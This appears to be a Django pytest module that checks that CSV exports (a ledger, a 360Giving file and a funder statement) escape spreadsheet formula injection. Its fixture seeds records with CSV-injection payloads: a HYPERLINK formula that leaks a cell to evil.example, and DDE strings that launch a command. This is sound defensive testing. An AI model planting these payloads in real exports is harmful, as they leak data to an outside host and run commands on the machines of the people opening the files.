"""Every CSV a person may open in a spreadsheet writes text that looks like a formula as text. A funder's name, a
bank reference and a project title are where such text could come from; here they carry the payloads a review used."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from funders.models import Funder, Receipt
from projects.models import Project

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"]


@pytest.fixture
def poisoned(world):
    Funder.objects.filter(pk=world.funder_a.pk).update(name=PAYLOADS[0], publicly_named=True)
    Project.objects.filter(pk=world.award_a.project_id).update(title=PAYLOADS[1], institution=PAYLOADS[2])
    Receipt.objects.filter(pledge__funder=world.funder_a).update(bank_reference=PAYLOADS[2])
    return world


def cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


def assert_neutralised(found: list[str], payloads: list[str]) -> None:
    assert not [cell for cell in found if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [
        cell for cell in found if cell.startswith("-") and not cell.replace("-", "", 1).replace(".", "").isdigit()
    ]
    for payload in payloads:
        assert "'" + payload in found


def test_the_ledger_csv(client, poisoned):
    client.force_login(poisoned.admin)
    found = cells(client.get(reverse("grants:export_ledger")))
    assert_neutralised(found, [PAYLOADS[0]])
    assert any(cell.startswith("-") for cell in found)  # negative amounts stay numbers


def test_the_360giving_csv(client, poisoned):
    client.force_login(poisoned.admin)
    found = cells(client.get(reverse("grants:export_360giving_csv")))
    assert_neutralised(found, [PAYLOADS[1]])


def test_the_funders_statement(client, poisoned):
    client.force_login(poisoned.contact_a)
    found = cells(client.get(reverse("funder:statement")))
    assert_neutralised(found, [PAYLOADS[2]])
